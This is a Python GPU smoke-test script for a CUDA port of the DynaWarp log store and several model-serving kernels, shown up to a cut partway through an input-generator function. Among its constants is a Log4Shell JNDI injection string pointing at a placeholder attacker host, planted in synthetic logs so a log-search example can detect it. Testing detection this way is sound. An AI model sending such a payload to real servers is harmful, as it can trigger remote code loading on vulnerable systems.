#!/usr/bin/env python3
"""Drive the PyTorch/CUDA port of the DynaWarp log store on one GPU.

    python3 chip_smoke.py

Phases (any failure raises, so the exit code is not 0):
  1. print the card's name and power limit (nvidia-smi);
  2. build the eight CUDA kernels from ``src/repro_torch/kernels/csrc``
     (nvcc, one process per source, all at once);
  3. hold each kernel against its plain PyTorch version on the card, at the
     main path's shapes and at the edges (ragged W, Q not a power of two,
     empty / full / over-max_hits rows, absent keys, fallback keys in and
     past shared memory, signature-rejected keys, more MPHF levels than the
     kernel takes by value, accumulators wider and narrower than a
     segment's planes, a one-token segment, token rows of length 0, L and
     past L, widths of 1, 3, 22 and past one staging window, matrices off
     16-byte alignment, fold rows of 0 tokens and past T, extraction waves
     with no answer), bit for bit, and time both (``sketch_probe``'s two
     entries: the probe and the fused segment probe; ``bitset_ops``' and
     ``bitmap_extract``'s two each: the query engine's ragged entries and
     the (Q, T, W) and padded (Q, max_hits) ones; ``token_hash`` also at
     the median term matrix that phase 4's ingest launched and at each
     wave's matrix, the fused probe also as the term wave launches it on
     the largest segment, the ragged fold and extraction at each wave's
     own inputs);
  4. the segmented path: a 1M-line synthetic log (1000 sources) ingested
     into ``DynaWarpStore(mode="segmented")`` at the paper's defaults on the
     GPU (its term matrices through ``token_hash``), then waves of term and
     multi-token contains queries, each wave's tokens hashed by one
     ``token_hash`` launch, each segment probed by one launch of the
     fused ``sketch_probe`` entry, the fold and the extraction one launch
     each of the ragged entries, with no device work between the last probe
     and the fold (required, the last by torch.profiler's trace); a wave's
     answers must survive the next wave (held to a copy), its extraction
     must copy at most 4 (answer ids + live queries + 1) bytes to the host
     (printed with the host-clock stage split), every candidate list must
     equal the engine's scalar host path and a sample of term answers must
     equal the scan store's;
  4b. the durable path on phase 4's lines and queries:
     ``DynaWarpStore(mode="segmented", path=..., fsync=True)`` publishing
     its manifest at every spill, a snapshot every 200,000 lines answering
     a standing wave of 256 terms (16 present ids, 240 absent; its matches
     equal to phase 4's below the snapshot's line count), the term and contains candidates equal to
     phase 4's bit for bit; ``close()`` and ``open(mmap=True)``, the first
     wave's uploads from the memmapped segments (one a segment), warm waves
     with phase 4's launch counts and answers, a second ``open()`` that
     uploads nothing, and the fused probe held against its plain version
     on the largest memmap-backed segment; ``open(background_compact=True)``
     with ``request_compact(fanout=2)`` and term waves while the worker
     merges (each equal to phase 4's candidates while the old segments
     serve, to its engine's host path after the swap: the segmentation
     decides a sketch's false positives), then the advanced manifest, the
     merged-away files gone, each merged segment uploaded once and the
     standing wave's matches equal to phase 4's; a crash at the second manifest swap
     of a 200,000-line prefix (4 MiB spills), ``open()``, resume and
     ``finish()``, exact over the prefix.  Its directory lives under
     ``build/`` and is removed after phase 4c;
  4c. the serving front end on phase 4's store: the cost model measured on
     the card (``measure_dispatch_costs``, buckets 8..256, median of 5,
     written to ``build/bench_costmodel.json``); an open-loop load (8
     client threads on exponential inter-arrivals, offering more than
     either back end serves, 256 present and 256 absent ids) against
     per-query dispatch (one engine wave a query, behind one lock) and
     the ``WaveScheduler`` at the config's knobs (2 replicas, 2 live
     waves, 2 ms deadline) with the measured model, every answer equal to
     the direct wave, the waves at least 3x per-query q/s, a fused probe
     a segment and a fold a device wave and an extraction a device wave
     with an answer, no ``token_hash`` and no upload (the device's busy
     share from a second, profiled run of the load); ``store.serving()``
     answers equal to the store's own (term, contains, batch); a durable
     writer of the first 100,000 lines (4 MiB spills) whose snapshots two
     reader threads serve while it ingests, every answer exact over a
     published prefix, at least one refresh that moved the view, and
     after ``finish()`` the whole prefix equal to phase 4's matches; and
     ``launch/serve.py --arch dynawarp --store`` on phase 4b's directory
     with the measured model;
  4d. sharded retrieval on the first 500,000 of phase 4's lines and its
     queries: a durable
     ``DynaWarpStore(shard_axes=("data",), path=..., fsync=True)`` spilling
     at 4 MiB into at least 8 segments (its writer merges none; a plane
     budget of 256 MiB, so that compacted segments keep theirs), its own
     engine a ``ShardedQueryEngine`` with one shard per card; beside it the
     unsharded engine and 8 and 4 logical shards of the card
     (``ShardedQueryEngine(devices=[dev] * N)``), slots by the least-loaded
     rule; every term, contains AND and OR wave of each equal to the
     unsharded engine's bit for bit (and that one to its host path), one
     ``token_hash``, one fused probe a segment, one fold and one
     extraction a wave, one upload a segment by the first engine and none
     by the others, the same bytes to the host as the unsharded wave, a
     sample of matches equal to the scan store's; median and p99 of 31
     warm waves of each kind and engine, in turns, and the device's busy
     share in one profiled term wave; a ``WaveScheduler`` over 2 clones of
     the 4-shard engine under phase 4c's open-loop load (answers equal to
     the direct wave, launches a device wave, no upload) and
     ``store.serving()`` answers equal to the store's own; then, with the
     store's engine on 4 logical shards (``default_shard_devices`` swapped,
     as the tests force a host mesh), ``compact(fanout=F)`` with F the
     count of the most crowded size tier, so that one tier merges once
     (survivors keep
     their slots and upload nothing, merged segments take the rule's slot
     and upload once, waves equal the host path), ``close()`` and
     ``open(shard_axes=("data",))`` (candidates equal, one upload a
     segment) and a second ``open()`` (slots found by durable id, no
     upload).  Its directory lives under ``build/`` and is removed;
  5. the CSC path: ``CscStore`` on the first 500,000 of those lines, sized
     by the paper's protocol for phase 4's sketch (the next power of two
     above the DynaWarp sketch's bits), its
     bits on the GPU; the same term and contains queries as one
     ``csc_probe`` call and one by one; no false negatives, scan-equal
     matches, one upload; then ``csc_probe`` against its plain version on
     this store's sketch and at the edges (p = 16, p = 40, j = 2, m = 64,
     anchors that wrap at m, j x k past the seeds the kernel takes by value
     and past a warp, Q = 1), timed at the wave and at one per-query call,
     each warm and with the L2 flushed;
  6. the log_search path (``examples/log_search.py``: 20,000 lines, 32
     sources, three planted Log4Shell lines) over every store of
     ``ALL_STORES`` on the GPU, each equal to its CPU run, batch-mode and
     segmented DynaWarp equal;
  7. hold the model-serving kernels (``retrieval_score``, ``embedding_bag``,
     ``flash_decode``) against their plain versions on the card, at their
     paths' shapes and at the edges (for ``retrieval_score`` every register
     step of the query, MAX_D, scalar loads, an unaligned corpus; for
     ``embedding_bag`` BAG 1, 32, 33 and 70 at D 1, 17 and 33, B 1, an
     unaligned table), within the tolerance stated at
     ``check_model_kernels``, and time each beside one PyTorch library call
     that computes the same function (``flash_decode`` also at the LM
     path's own call, ``embedding_bag`` also with the L2 flushed), with
     each time's share of its bytes bound; ``flash_decode`` also with a
     sliding window and logit soft-capping (gemma2-9b's own local and
     global calls, a window off the 64-position tile, one wider than the
     cache, window 1, f32; q scaled past the cap), each rejecting the same
     call with its window ignored or its cap ignored, timed at gemma2's
     calls with a bound that counts the window's positions only (no
     library call: SDPA has no cap);
  8. the LM serving paths at full width (bf16, weights from a seeded
     init), one arch at a time, each one's weights freed before the next:
     llama3-8b (all 32 layers, 8.03B parameters), gemma2-9b (all 42
     layers, 9.24B; prompts of 4,608 tokens past its 4,096 window, batch
     4), olmo-1b (all 16 layers), phi3.5-moe (8 of its 32 layers) and
     arctic-480b (2 of its 35 layers); prefill of 8 prompts of 1024 tokens
     (gemma2: 4 of 4,608), then 31 greedy decode steps, ``flash_decode``
     launched once a layer and step with the layer's window and cap; one
     decode step through the kernel against the same step through the
     plain ``decode_attention`` on the card;
  9. the recsys serving paths at full width: two-tower ``retrieval_cand``
     (64 requests, each the 1,048,576-row corpus GEMV through
     ``retrieval_score`` and a top-100) and xDeepFM ``serve_p99`` (32
     requests of 512 rows, the wide term through ``embedding_bag``), each
     held to its plain version on the card; xDeepFM's candidate scoring at
     smoke size, held to its CPU run;
 10. SASRec and MIND at full width (1M items; d 50, 2 blocks and d 64, 4
     interests, 3 routing iterations; L 50): ``serve_p99`` (32 requests of
     512 left-padded sequences, 1024 candidates each) and
     ``retrieval_cand`` (32 users against 1,048,576 candidates, top-100);
     then MeshGraphNet's forward pass (15 layers, d 128): ``minibatch_lg``
     from ``neighbor_sample`` (1024 seeds, fanout 15-10) over a synthetic
     CSR graph at Reddit's size (232,965 nodes, ~114.6M edges), padded to
     169,984 nodes and 168,960 edges, ``full_graph_sm`` and ``molecule``;
     one model at a time, each held to its own float64 run on the card
     within ``F64_TOL`` std, each rejecting its planted faults (SASRec's
     causal or padding mask dropped, MIND's validity mask dropped,
     MeshGraphNet's ``edge_mask`` ignored or last layer skipped) by
     ``FAULT_MARGIN`` x that limit; none launches a kernel;
 11. training: before phase 4's store is freed, the sketch-filtered
     training corpus over it (``SketchFilteredCorpus`` with "error": one
     engine wave, ``sketch_probe``, ``bitset_reduce`` and ``bitmap_extract``
     launched; its batches equal to the engine's host path, no false
     negative in a sample of the rest) and ``LMTokenPipeline`` over their
     lines; after phase 10, the ``embedding_bag`` backward kernel against
     its plain version at xDeepFM train_batch's wide term (V 39M, D 1, B
     65,536, BAG 39) and at the edges (D 17 and 33, BAG 1 and 70, B 1,
     every id equal, an unaligned gradient), within the tolerance stated
     at ``check_ebag_backward``, rejecting the kernel rebuilt with a plain
     store for its atomicAdd, timed beside ``index_add_``; xDeepFM
     train_batch at full width (B 65,536 as 2 microbatches, AdamW through
     ``make_train_step``, the wide term through the kernels forward and
     backward), a microbatch's gradients and one step held to the plain
     versions, a backward that drops duplicates rejected, then 5 timed
     steps; olmo-1b train_4k at full width (16 layers, bf16, remat; batch
     cut to 4 x 4,096) on the corpus's batches, its bf16 loss and
     gradients held to an f32 run on the card, unshifted labels rejected,
     its loss falling over 3 timed steps; ``launch/train.py --arch
     xdeepfm`` (smoke config) 12 steps with checkpoints, ``--resume`` to
     16, its losses equal to a straight run's within 1e-5;
 12. the mesh runtime on a one-rank NCCL group (set up before phase 8)
     and its (1, 1) ("data", "model") mesh, at published widths: (a)
     phi3.5-moe's MoE layer (D 4,096, 16 experts, F 6,400, top-2, T
     8,192, bf16 and f32), ``moe_ffn_sharded`` equal to ``moe_ffn`` bit
     for bit, and its per-rank body at one logical rank an expert, the
     partials summed as the combine sums them, within the bound stated at
     ``mesh_moe``; (b) arctic-480b's attention core (56 / 8 heads, d_head
     128, B 1 x S 4,096), ``seq_parallel_attention`` equal to
     ``blockwise_attention`` bit for bit, and over 16 logical ranks within
     one bf16 rounding; (c) ``compressed_psum`` of an olmo-1b
     embedding-sized leaf through NCCL; (d) inside phase 8's arctic-480b
     run, its prefill with every mesh field set equal to phase 8's logits
     bit for bit; (e) phase 11's newest ``launch/train.py`` checkpoint
     restored with ``shardings=`` onto the mesh, equal to a plain restore;
     all in MESH_BUDGET_S;
 13. the dry run and the host extraction: (a) in a subprocess started
     after the build (it uses no card memory, and phase 12 holds the
     default process group), ``launch/dryrun.py`` traces phase 11's two
     steps at phase 11's cuts on a one-rank (1, 1) fake mesh, and each
     predicted ``live_bytes`` must lie within DRYRUN_LIVE_RTOL of the
     step's own peak that phase 11 measured (``max_memory_allocated``
     over one timed step, the peak reset after the warm one, less what
     the script held beside the step's arguments); (b) the
     same subprocess runs PHASE13_CELL on the production 16 x 16 mesh
     (256 fake ranks) to status ``ok``, all in PHASE13_BUDGET_S; (c) on
     phase 4's store (before phase 8), one term wave and one contains
     wave through a ``QueryEngine(extract_on_device=False)``: their
     candidates equal phase 4's bit for bit, ``sketch_probe``,
     ``token_hash`` and ``bitset_ops`` launched as in device mode and
     ``bitmap_extract`` not at all;
 14. print the ``mesh`` JSON line (each check's error, limit and ms), the
     ``dryrun`` JSON line, the ``kernels`` JSON line (launch counts of each
     path, the error against the plain versions, times and bounds, and the
     launch floor: one empty launch timed as every kernel is), then the
     result.

Each path's launch counts are set to 0 just before it and read just
after; the launches that compare a kernel with its plain version fall
outside those windows.

It needs one CUDA card and the repository around it; without either it
exits with a non-zero code and prints no result.
"""
from __future__ import annotations

import contextlib
import functools
import gc
import json
import os
import shutil
import statistics
import subprocess
import sys
import tempfile
import time
from pathlib import Path

ROOT = Path(__file__).resolve().parent
N_LINES, N_SOURCES, SEED, BATCH_LINES = 1_000_000, 1000, 3, 512
N_TERMS, N_NEEDLES = 4096, 1024      # term wave: half present, half absent
# phase 4b: the snapshots' standing term wave and cadence (cut from 32
# present ids every 100,000 lines for the script's time: a present id's
# post-filter reads hundreds of batches), and the crash sub-phase's prefix
# and spill limit (at the paper's 32 MiB the first spill comes after about
# 330,000 lines; 4 MiB spills 3 times in 200,000)
N_STANDING, N_STANDING_PRESENT, SNAP_EVERY = 256, 16, 200_000
CRASH_LINES, CRASH_MEMORY = 200_000, 4 << 20
# phase 4c: the cost model's buckets (the config's) and reps; the open-loop
# load (LOAD_CLIENTS threads, each offering LOAD_RATE q/s, above both back
# ends' capacity) over LOAD_PRESENT + LOAD_ABSENT ids of the term wave; the
# StoreServer's sample (few present ids: each one's post-filter reads
# hundreds of batches); the live writer's prefix (cut from 1M lines, then
# from 200,000, for the script's time), spill limit, ingest chunk and its
# readers' terms
SERVE_BUCKETS, SERVE_REPS = (8, 16, 32, 64, 128, 256), 5
LOAD_CLIENTS, LOAD_PER_CLIENT, LOAD_RATE = 8, 400, 10_000.0
LOAD_PRESENT, LOAD_ABSENT = 256, 256
N_SERVE_PRESENT, N_SERVE_ABSENT, N_SERVE_NEEDLES = 4, 12, 4
LIVE_LINES, LIVE_MEMORY, LIVE_CHUNK = 100_000, 4 << 20, 10_000
LIVE_PRESENT, LIVE_ABSENT = 2, 6
# phase 4d: the prefix of phase 4's lines it ingests (cut from all 1M for
# the script's time: about 10 segments, still one or more for each of its 8
# logical shards), the sharded store's spill limit (its writer merges no
# temporaries, so that 1M lines would stay about 20 segments) and plane
# budget (a compacted segment of 1M lines holds ~100 MB of planes: past
# the default 64 MiB it would be probed on the host, outside every shard),
# the logical shard counts held beside the store's own (8: the JAX
# package's forced host mesh; 4: the four-chip layout), the warm waves
# timed a kind and count, the logical shards of its compaction and reopen,
# and its StoreServer sample
SHARD_LINES = 500_000
# phase 5: the prefix of phase 4's lines the CSC store ingests (cut from all
# 1M for the script's time when phase 11 came, as phase 4d's was); its m
# stays the protocol's for phase 4's 1M-line DynaWarp sketch (2^27 bits,
# about twice what the prefix alone would take), so that csc_probe's main
# shape is the one it was
CSC_LINES = 500_000
SHARD_MEMORY, SHARD_PLANES, MIN_SHARD_SEGMENTS = 4 << 20, 256 << 20, 8
SHARD_COUNTS, SHARD_REPS, SHARD_FORCED = (8, 4), 31, 4
N_SHARD_PRESENT, N_SHARD_ABSENT, N_SHARD_NEEDLES = 2, 6, 2
N_SCAN_SAMPLE = 8
N_TOKEN_ROWS = 32_768                # a term matrix above any flush batch's
# examples/log_search.py: the Log4Shell hunt over every store
HUNT_LINES, HUNT_SOURCES, HUNT_BATCH = 20_000, 32, 128
HUNT_POS = (1234, 9876, 18765)
ATTACK = 'GET /api HTTP/1.1 400 payload="${jndi:ldap://evil.example/a}"'
DEVICE_STORES = ("dynawarp", "csc")  # the stores that take a device
HBM_BYTES_PER_S = 3.35e12            # H100 SXM device memory rate
SPIN_CYCLES = 20_000_000             # queued spin that hides launch cost
L2_FLUSH_BYTES = 100_000_000         # written before a cold run: twice the L2
REPS = 25
# the model-serving paths (phases 8 and 9)
LM_BATCH, LM_PROMPT, LM_DECODE = 8, 1024, 32
# phase 8's LM runs, one at a time: (arch, layers kept or None for all,
# batch, prompt).  gemma2-9b's prompt passes its 4,096-position window, so
# that every local layer's window cuts the cache in prefill and in every
# decode step; phi3.5-moe keeps 8 of its 32 layers (all 32 are 84 GB) and
# arctic-480b 2 of its 35 (one layer's 128 experts are 26.8 GB)
LM_RUNS = (("llama3-8b", None, LM_BATCH, LM_PROMPT),
           ("gemma2-9b", None, 4, 4608),
           ("olmo-1b", None, LM_BATCH, LM_PROMPT),
           ("phi3.5-moe-42b-a6.6b", 8, LM_BATCH, LM_PROMPT),
           ("arctic-480b", 2, LM_BATCH, LM_PROMPT))
N_RETRIEVAL, TOP_K, N_SCORE = 64, 100, 32
# decode logits, kernel path against plain, as a share of the logits' std:
# 16 bf16 steps at unit scale, for a difference born in attention's bf16
# rounding and carried through up to 42 bf16 layers.  On random weights
# attention is a small share of the residual: the kernel's last split
# dropped moves the logits past it and is required to, its newest position
# dropped does not always (phase 7 holds the kernel at the path's own
# shapes for that)
LOGIT_TOL = 2 ** -3
# phase 7 shapes, the main one first: (C, D) two-tower corpus, C off any
# block, C = 1, a D that takes the scalar loads; then the kernel's edges: D
# on both sides of the query's register limit (512), at a register step
# (132) and at MAX_D, C under one 8-row block, D = 1, a scalar D past the
# scalar loads' register limit (128) (and phase 7 adds a corpus view off
# 16-byte alignment)
RETRIEVAL_SHAPES = ((1_048_576, 256), (1_000_003, 256), (1, 256), (4097, 30),
                    (300, 4), (300, 132), (300, 512), (300, 516),
                    (37, 12_288), (7, 256), (33, 1), (1000, 129))
# (V, D, B, BAG, fields): xDeepFM's wide term (D = 1, one id in each of 39
# fields of 1M rows), then D = 8, 64, 128
EBAG_SHAPES = ((39_000_000, 1, 512, 39, 39), (100_000, 8, 512, 39, 1),
               (100_000, 64, 512, 39, 1), (100_000, 128, 77, 5, 1))
# the kernel's layouts: BAG 1, 32, 33 and 70 (one lane group's pass and
# past it) at D 1, 17 and 33 (entry lanes, column lanes, a second column
# step), then B = 1 (phase 7 adds a table view off 16-byte alignment)
EBAG_EDGES = tuple((100_000, d, 77, bag, 1) for d in (1, 17, 33)
                   for bag in (1, 32, 33, 70)) + ((100_000, 1, 1, 39, 1),
                                                  (100_000, 64, 1, 70, 1))
# (B, S, Hq, Hkv, D, cache_len, dtype): llama3-8b at 8 of the decode_32k
# cell's 128 rows, with a full and a partial cache; the LM path's own call
# (phase 8's last step, also phi3.5-moe's); a ragged S, cache_len 1, n_rep
# 1, f32; then phase 8's last step of olmo-1b (16/16 heads) and of
# arctic-480b (56/8 heads, n_rep 7)
DECODE_SHAPES = ((8, 32768, 32, 8, 128, 32768, "bfloat16"),
                 (8, 32768, 32, 8, 128, 30_001, "bfloat16"),
                 (8, 1056, 32, 8, 128, 1055, "bfloat16"),
                 (4, 1037, 32, 8, 128, 1037, "bfloat16"),
                 (4, 1037, 32, 8, 128, 1, "bfloat16"),
                 (4, 2048, 8, 8, 128, 2000, "bfloat16"),
                 (4, 4096, 32, 8, 128, 4096, "float32"),
                 (8, 1056, 16, 16, 128, 1055, "bfloat16"),
                 (8, 1056, 56, 8, 128, 1055, "bfloat16"))
LM_CALL = 2          # DECODE_SHAPES' LM path call, timed beside the main one
# every LM path call in DECODE_SHAPES, each timed beside the main one
LM_CALLS = (LM_CALL, 7, 8)
# (B, S, Hq, Hkv, D, cache_len, window, softcap, dtype), q scaled by 0.8
# softcap so that |score| reaches 2-4x the cap: gemma2-9b's own decode call
# (phase 8's last step) on a local layer (window 4096, cap 50) and on a
# global one (cap only); a window that starts off the 64-position tile; a
# window wider than cache_len; window 1; f32.  Each is timed beside the
# main shape, with a bound that counts the window's positions only
WINDOW_DECODE_SHAPES = (
    (4, 4640, 16, 8, 256, 4639, 4096, 50.0, "bfloat16"),
    (4, 4640, 16, 8, 256, 4639, None, 50.0, "bfloat16"),
    (8, 2048, 32, 8, 128, 2000, 1001, 50.0, "bfloat16"),
    (4, 1037, 32, 8, 128, 1037, 4096, 30.0, "bfloat16"),
    (4, 1037, 32, 8, 128, 1000, 1, 50.0, "bfloat16"),
    (4, 4096, 32, 8, 128, 4000, 1500, 50.0, "float32"))
CSC_WAVE = 1 << 17   # phase 5 edges: past the largest lane-group call
# phase 10: SASRec and MIND (serve_p99, retrieval_cand) and MeshGraphNet's
# forward pass at their full configs.  Each f32 output is held to the same
# function in float64 on the card (parameters and inputs cast), the
# difference in units of the f64 output's std: f32 rounding through 2
# attention blocks, 3 routing iterations or 15 message-passing layers stays
# orders below it, and every planted fault must read past FAULT_MARGIN
# times it
F64_TOL = 1e-4
FAULT_MARGIN = 10
SEQ_REQUESTS, GNN_RUNS = 32, 10
TOP_KERNELS = 3                      # device kernels printed per profile
# minibatch_lg's graph: Reddit's published size (GraphSAGE), its degrees
# geometric around the mean, 1024 seed nodes, fanout 15-10
REDDIT_NODES, REDDIT_EDGES = 232_965, 114_615_892
GNN_SEEDS, GNN_FANOUTS = 1024, (15, 10)
CORA_EDGES = 10_556                  # full_graph_sm's real edges
MOLECULES, MOLECULE_NODES, MOLECULE_EDGES = 128, 30, 64
# phase 11: training.  The embedding_bag backward kernel's cases (V, D, B,
# BAG, fields): xDeepFM train_batch's wide term (39 fields of 1M rows, one
# id in each, B 65,536), then D 17 and 33, BAG 1 and 70, B 1 (the script
# adds every id equal and a grad_out view off 16-byte alignment)
EBAG_BACK_SHAPES = ((39_000_000, 1, 65_536, 39, 39), (100_000, 17, 512, 39, 1),
                    (100_000, 33, 77, 70, 1), (100_000, 1, 4096, 1, 1),
                    (100_000, 64, 1, 39, 1))
# xDeepFM train_batch: B 65,536 as 2 microbatches (one pass of 65,536 rows
# keeps ~62 GB of CIN products for the backward pass, past the card with
# the step's transients), TRAIN_STEPS timed steps after a warm one.  Its
# kernel step against the plain one: the loss within 1e-6 relative (the
# bag sums' order is the kernel's), each gradient leaf's norm within 1e-5
# relative (the duplicates' sums in the atomics' order)
XDEEPFM_MICRO, TRAIN_STEPS = 2, 5
XDEEPFM_LOSS_RTOL, XDEEPFM_GRAD_TOL = 1e-6, 1e-5
# olmo-1b train_4k, the batch cut from 256 to 4 (Adam's f32 moments are
# 9.4 GB, and autograd through blockwise attention's f32 blocks ~12 GB a
# recomputed layer), over the batches of phase 4's store that hold
# TRAIN_TERMS; LM_TRAIN_STEPS timed steps after a warm one.  bf16 against
# f32 on the card: the loss within 2^-9 relative (one bf16 rounding; 1.2e-4
# to 1.7e-4 at a quarter width on the CPU), each leaf's gradient norm within
# 2^-3 relative (0.3-2% at a quarter width), but the tied embedding's
# within 2^-1: its gradient is mostly the unembedding's, through a softmax
# of bf16 logits whose std at random init is sqrt(d_model) = 45, so that
# their rounding (~45 x 2^-9) moves each probability by ~9% (it read 0.239
# on the card; 0.019 at a quarter width and 2,048 positions on the CPU).
# Labels left unshifted must move the loss past FAULT_MARGIN x its limit
LM_TRAIN_BATCH, LM_TRAIN_SEQ, LM_TRAIN_STEPS = 4, 4096, 3
LM_LOSS_TOL, LM_GRAD_TOL, LM_EMBED_GRAD_TOL = 2 ** -9, 2 ** -3, 2 ** -1
TRAIN_TERMS, N_LEFT_OUT_SAMPLE = ("error",), 32
# launch/train.py at xDeepFM's smoke config: steps before and after the
# resume, checkpoint cadence, and the resumed losses' relative tolerance
RESUME_STEPS, RESUME_CKPT_EVERY, RESUME_RTOL = (12, 16), 5, 1e-5
# phase 12: the mesh runtime on a one-rank NCCL group.  phi3.5-moe's MoE
# layer (T tokens, D, E experts, F; top-2, capacity factor 1.25), each
# expert also on a logical rank of its own; arctic-480b's attention core
# (B, S, q heads, kv heads, d_head), its query rows also over MESH_RANKS
# logical ranks; compressed_psum of an olmo-1b embedding-sized f32 leaf
# (V, D); its budget
MESH_MOE = (8192, 4096, 16, 6400)
MESH_ATTN = (1, 4096, 56, 8, 128)
MESH_RANKS = 16
MESH_PSUM = (50_304, 2_048)
MESH_BUDGET_S = 30.0
MESH_LM = "arctic-480b"              # phase 8's run that holds check (d)
# the MoE per-expert-rank partials in f32 against moe_ffn: max |diff| over
# max |out|; compressed_psum's out + new error against the gradient (the
# reference test's absolute tolerance)
MESH_F32_RTOL, MESH_PSUM_ATOL = 1e-5, 1e-4
# phase 13: the dry run's predicted live bytes of phase 11's steps against
# their measured peaks (relative), the production cell it runs, and the
# subprocess's budget
DRYRUN_LIVE_RTOL = 0.25
PHASE13_CELL = ("olmo-1b", "decode_32k")
PHASE13_BUDGET_S = 90.0


def require(cond: bool, what: str) -> None:
    if not cond:
        raise RuntimeError(f"chip_smoke: {what}")


class LaunchSum:
    """The launch counts of a kernel's several entries as one counter:
    reading sums them, setting sets each."""

    def __init__(self, *entries):
        self.entries = entries

    @property
    def launch_count(self) -> int:
        return sum(e.launch_count for e in self.entries)

    @launch_count.setter
    def launch_count(self, value: int) -> None:
        for e in self.entries:
            e.launch_count = value


def launch_counters() -> dict:
    """Each kernel's launch counter, by its row's name in the kernel table
    (a kernel's several entries summed)."""
    from repro_torch.kernels import (bitmap_extract, bitmap_extract_ragged,
                                     bitset_reduce, bitset_reduce_batch,
                                     bitset_reduce_ragged, csc_partition_mask,
                                     embedding_bag_backward,
                                     embedding_bag_sum, flash_decode,
                                     match_planes, mphf_probe_arrs,
                                     retrieval_scores, token_fingerprints)
    return {"sketch_probe": LaunchSum(mphf_probe_arrs, match_planes),
            "bitset_reduce_batch": LaunchSum(bitset_reduce_batch,
                                             bitset_reduce_ragged),
            "bitset_reduce": bitset_reduce,
            "bitmap_extract": LaunchSum(bitmap_extract,
                                        bitmap_extract_ragged),
            "token_hash": token_fingerprints,
            "csc_probe": csc_partition_mask,
            "retrieval_score": retrieval_scores,
            "embedding_bag": embedding_bag_sum,
            "embedding_bag_backward": embedding_bag_backward,
            "flash_decode": flash_decode}


def reset(counters) -> None:
    for c in counters.values():
        c.launch_count = 0


def read(counters) -> dict:
    return {k: c.launch_count for k, c in counters.items()}


# ------------------------------------------------------------------ timing
def device_ms(torch, fn, flush=None) -> float:
    """Median device time of one ``fn()`` call over REPS runs.  Each run is
    queued behind a GPU spin, so the events bracket only the device work
    (the host's launch cost of ``fn`` is hidden behind the spin).  A
    ``flush`` (see ``l2_flush``) runs before each spin, outside the
    events: the cold reading, where every run finds its inputs out of L2."""
    for _ in range(3):
        fn()
    torch.cuda.synchronize()
    times = []
    for _ in range(REPS):
        start = torch.cuda.Event(enable_timing=True)
        end = torch.cuda.Event(enable_timing=True)
        if flush is not None:
            flush()
        torch.cuda._sleep(SPIN_CYCLES)
        start.record()
        fn()
        end.record()
        end.synchronize()
        times.append(start.elapsed_time(end))
    return statistics.median(times)


def host_us(torch, fn, n: int = 100) -> float:
    """The host's cost of one ``fn()`` launch: median of ``n`` host-clock
    readings around the call, in microseconds (the device work queues)."""
    torch.cuda.synchronize()
    spent = []
    for _ in range(n):
        t0 = time.perf_counter()
        fn()
        spent.append((time.perf_counter() - t0) * 1e6)
    torch.cuda.synchronize()
    return statistics.median(spent)


def l2_flush(torch, dev):
    """A callable that writes L2_FLUSH_BYTES on ``dev``, evicting the 50 MB
    L2 (``device_ms``'s ``flush``)."""
    buf = torch.empty(L2_FLUSH_BYTES // 4, dtype=torch.int32, device=dev)
    return buf.zero_


def launch_floor_ms(torch) -> float:
    """The device time of one empty launch (a one-thread spin of 0
    cycles), timed as every kernel is: the least any kernel can take."""
    return device_ms(torch, lambda: torch.cuda._sleep(0))


def print_registers(name: str, log: str) -> None:
    """The compiler's register and spill lines of ``nvcc -Xptxas -v``."""
    for line in log.splitlines():
        if "registers" in line or "spill" in line:
            print(f"ptxas {name}: {line.strip()}", flush=True)


def device_busy(torch, fn, trace=None, top=None
                ) -> tuple[float, float | None]:
    """(wall ms, device busy ms) of one ``fn()`` call under torch.profiler:
    busy is the sum of the kernels' and copies' device time (None when the
    profiler saw no device activity).  A ``trace`` list receives the names
    of the device's kernels and copies in the order they ran, a ``top``
    list their (name, device ms) summed by name, the longest first.  The
    profiler records device activity only: nothing reads the host's ops,
    and recording them makes a call of many thousand launches (a long
    prefill) take longer than the call."""
    from torch.profiler import ProfilerActivity, profile
    torch.cuda.synchronize()
    with profile(activities=[ProfilerActivity.CUDA]) as prof:
        t = time.perf_counter()
        fn()
        torch.cuda.synchronize()
        wall = time.perf_counter() - t
    cuda = torch.autograd.DeviceType.CUDA
    by_name = [e for e in prof.key_averages() if e.device_type == cuda]
    busy = sum(e.self_device_time_total for e in by_name)
    if top is not None:
        top.extend(sorted(((e.key, e.self_device_time_total / 1e3)
                           for e in by_name), key=lambda x: -x[1]))
    if trace is not None:
        trace.extend(e.name for e in sorted(
            (e for e in prof.events() if e.device_type == cuda),
            key=lambda e: e.time_range.start))
    return wall * 1e3, (busy / 1e3 if busy else None)


def busy_text(wall_ms: float, busy_ms: float | None) -> str:
    return ("not measured" if busy_ms is None else
            f"{busy_ms:.3f} ms ({100 * busy_ms / wall_ms:.1f}% of "
            f"{wall_ms:.1f} ms profiled)")


def nbytes(*tensors) -> int:
    return sum(t.numel() * t.element_size() for t in tensors)


# ------------------------------------------------------------------ inputs
def u32_tensor(torch, np, a, dev):
    return torch.from_numpy(np.ascontiguousarray(a, np.uint32)
                            .view(np.int32)).to(dev)


def planes_input(np, seed, q, t, w):
    rng = np.random.default_rng(seed)
    p = (rng.integers(0, 2**32, (q, t, w), dtype=np.uint64)
         | rng.integers(0, 2**32, (q, t, w), dtype=np.uint64)) \
        .astype(np.uint32)
    p[0] = 0                                    # an empty row
    if q > 1:
        p[1] = 0xFFFFFFFF                       # a full row
    if q > 2:
        p[2] &= np.uint32(0x00010001)           # a sparse row
    return p


def bitmaps_input(np, seed, q, w):
    rng = np.random.default_rng(seed)
    density = rng.choice([0.0, 0.002, 0.02, 0.3, 1.0], size=(q, 1))
    bits = rng.random((q, w * 32)) < density
    bits[-1] = True
    if q > 1:
        bits[0] = False
    packed = np.packbits(bits.reshape(q, w, 32), axis=-1,
                         bitorder="little")
    return packed.view(np.uint32).reshape(q, w)


def mphf_input(np, build_mphf, seed, n_keys, max_levels, q, gamma=2.0):
    rng = np.random.default_rng(seed)
    keys = np.unique(rng.integers(0, 2**32, n_keys, dtype=np.uint64)
                     .astype(np.uint32))
    absent = rng.integers(0, 2**32, q, dtype=np.uint64).astype(np.uint32)
    fps = np.concatenate([rng.choice(keys, q // 2), absent[:q - q // 2 - 2],
                          [0, 0xFFFFFFFF]]).astype(np.uint32)
    return build_mphf(keys, max_levels=max_levels, gamma=gamma), fps


def segment_input(np, seed, n_tokens, n_postings, gamma=2.0, sig_bits=8):
    """A plane-backed segment of ~n_tokens random tokens, each in two
    random postings of n_postings (W = ceil(n_postings / 32) words), and
    its keys."""
    from repro_torch.core.batch_builder import build_sealed
